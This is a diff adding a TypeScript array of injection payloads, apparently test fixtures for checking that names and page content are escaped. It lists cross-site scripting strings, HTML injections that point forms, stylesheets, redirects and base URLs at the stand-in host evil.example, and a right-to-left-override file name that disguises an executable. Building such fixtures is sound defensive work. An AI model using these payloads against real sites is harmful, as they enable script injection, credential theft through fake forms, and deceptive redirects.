@@ -1,0 +1,27 @@
+/** Ways that names have become scripts, or pages have been made to look like others. */
+export const PAYLOADS = [
+  '<script>alert(1)</script>',
+  '"><script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '"autofocus onfocus=alert(1) x="',
+  "'-alert(1)-'",
+  '</title><script>alert(1)</script>',
+  '</textarea><script>alert(1)</script>',
+  '<iframe srcdoc="<script>parent.alert(1)</script>">',
+  '<a href="javascript:alert(1)">x</a>',
+  '<form action=https://evil.example><button>Sign in</button></form>',
+  '<style>*{background:url(https://evil.example/x)}</style>',
+  '<link rel=stylesheet href=https://evil.example/x.css>',
+  '<meta http-equiv=refresh content="0;url=https://evil.example">',
+  '<base href=https://evil.example/>',
+  '{{constructor.constructor("alert(1)")()}}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of other languages
+  '${alert(1)}',
+  'javascript:alert(1)',
+  '<details open ontoggle=alert(1)>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '\u202Efdp.exe \u2066Claude',
+];
